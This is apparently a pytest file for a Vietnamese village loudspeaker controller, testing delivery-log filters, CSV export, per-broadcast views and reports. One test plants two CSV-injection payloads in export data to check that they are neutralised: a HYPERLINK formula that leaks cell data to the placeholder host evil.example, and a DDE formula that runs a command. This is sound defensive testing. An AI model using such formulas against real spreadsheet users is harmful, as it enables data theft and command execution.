"""Delivery log (filters, pages, CSV with BOM), per-broadcast matrix, and the period report."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from controller.models import Broadcast, utcnow
from controller.services import announcements, broadcasts, deliveries, registry


class Rendered:
    """A rendered MP3 stand-in for seeding: the real test tone file made by ffmpeg is not needed here."""

    def __init__(self, path, engine="espeak"):
        self.mp3_path = path
        self.duration_ms = 4000
        self.engine = engine
        self.spoken_text = "thông báo"


@pytest.fixture
def history(seeded, tmp_path):
    """Three broadcasts: one played everywhere, one failed on spk-b, one missed on spk-c."""
    mp3 = tmp_path / "a.mp3"
    mp3.write_bytes(b"ID3" + b"\0" * 100)
    now = utcnow()
    with seeded.db.session() as s:
        ann = announcements.create(s, seeded, title="Họp dân ấp Mỹ An", text="Họp dân",
                                   rendered=Rendered(mp3), source="tts", user=None, approved=True)
        plan = [(["spk-a", "spk-b"], "normal", {"spk-a": "played", "spk-b": "failed"}),
                (["spk-a", "spk-b", "spk-c"], "emergency",
                 {"spk-a": "played", "spk-b": "played", "spk-c": "missed"})]
        ids = []
        for n, (spk_ids, prio, final) in enumerate(plan):
            spks = [registry.get_speaker(s, x) for x in spk_ids]
            b = broadcasts.create(s, announcement=ann, speakers=spks, priority=prio, user=None,
                                  play_at=now - timedelta(hours=2 - n))
            s.flush()
            for d in b.deliveries:
                deliveries.append(s, d, "sent", "controller")
                if final[d.speaker_id] == "played":
                    for ev in ("received", "downloaded", "playing", "played"):
                        deliveries.append(s, d, ev, "agent")
                elif final[d.speaker_id] == "failed":
                    deliveries.append(s, d, "failed", "agent", detail="amplifier relay did not switch on")
                else:
                    deliveries.append(s, d, "missed", "controller", detail="not sent before it expired")
            ids.append(b.id)
    return ids


def test_log_filters_by_state_and_hamlet(login, history):
    c = login("viewer")
    html = c.get("/log?state=failed").get_data(as_text=True)
    assert html.count('data-speaker="spk-b"') == 1 and "amplifier relay did not switch on" in html
    html = c.get("/log?hamlet_id=2").get_data(as_text=True)  # Ấp Mỹ Phú: only spk-c
    assert 'data-speaker="spk-c"' in html and 'data-speaker="spk-a"' not in html
    html = c.get("/log?priority=emergency&engine=espeak").get_data(as_text=True)
    assert html.count("<tr data-broadcast=") == 3


def test_log_bad_filter_is_a_field_error(login, history):
    r = login("viewer").get("/log?date_from=2026-02-31")
    assert r.status_code == 400 and "Ngày không hợp lệ." in r.get_data(as_text=True)


def test_log_paginates(app, login, history):
    c = login("viewer")
    app.config["LOG_PER_PAGE"] = 2
    html = c.get("/log").get_data(as_text=True)
    assert html.count("<tr data-broadcast=") == 2 and 'rel="next"' in html
    html = c.get("/log?page=3").get_data(as_text=True)
    assert html.count("<tr data-broadcast=") == 1 and 'rel="next"' not in html


def test_csv_export_is_utf8_with_bom_and_vietnamese(login, history):
    c = login("viewer")
    r = c.get("/log.csv?state=played")
    body = r.get_data()
    assert r.mimetype == "text/csv" and body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["Lượt phát số", "Tiêu đề", "Mức ưu tiên", "Giọng đọc", "Khẩn cấp không qua duyệt",
                       "Giờ phát", "Ấp", "Loa", "Trạng thái", "Thời điểm trạng thái", "Lý do"]
    assert len(rows) == 1 + 3 and {r[6] for r in rows[1:]} == {"Ấp Mỹ An"}
    assert all(r[8] == "Đã phát" and r[3] == "Giọng máy (ngoại tuyến)" for r in rows[1:])
    assert {r[2] for r in rows[1:]} == {"Thông thường", "Khẩn cấp"} and rows[1][5][2] == "/"  # dd/mm/yyyy
    # the machine-readable form keeps the English codes, for scripts
    rows = list(csv.reader(io.StringIO(c.get("/log.csv?state=played&format=machine")
                                       .get_data().decode("utf-8-sig"))))
    assert rows[0][0] == "broadcast" and len(rows) == 1 + 3
    assert {r[6] for r in rows[1:]} == {"Ấp Mỹ An"} and all(r[8] == "played" for r in rows[1:])


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm để xem")'


def test_csv_cells_from_speakers_and_staff_never_run_as_formulas(login, history, seeded):
    from controller.ingest import Ingestor
    from protocol.messages import Ack

    with seeded.db.session() as s:
        b = s.get(Broadcast, history[0])
        b.announcement.title = "@SUM(1+1)*cmd|' /C calc'!A0"
        d = next(d for d in b.deliveries if d.speaker_id == "spk-b")
        cmd = d.command_id
    # A compromised Pi acks with a formula as its reason: the real ingest path stores it.
    Ingestor(seeded).process([("spk-b", "ack", Ack(cmd, "spk-b", "rejected", utcnow(),
                                                    detail=FORMULA).encode())])
    body = login("viewer").get("/log.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert "'" + FORMULA in [r[10] for r in rows]  # still readable, shown as text
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [r[1] for r in rows]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_matrix_shows_each_speaker_and_event_times(login, history):
    html = login("viewer").get(f"/broadcasts/{history[1]}").get_data(as_text=True)
    for sid in ("spk-a", "spk-b", "spk-c"):
        assert f'<tr data-speaker="{sid}">' in html
    assert "Đã tải âm thanh" in html and "not sent before it expired" in html


def test_period_report_counts_success_per_hamlet_and_lists_problems(login, history, seeded):
    html = login("viewer").get("/report").get_data(as_text=True)
    assert 'id="rep-broadcasts">2<' in html
    assert "3 (60,0 %)" in html  # 3 of 5 deliveries played, with the Vietnamese decimal comma
    assert "amplifier relay did not switch on" in html and "not sent before it expired" in html
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in html


def test_home_keeps_the_legacy_markup(login, history):
    html = login("viewer").get("/").get_data(as_text=True)
    assert '<table id="speakers">' in html and f'data-broadcast="{history[0]}"' in html
    assert 'class="state code" data-state="played">played<' in html


def test_broadcast_count(seeded, history):
    with seeded.db.session() as s:
        assert s.query(Broadcast).count() == 2
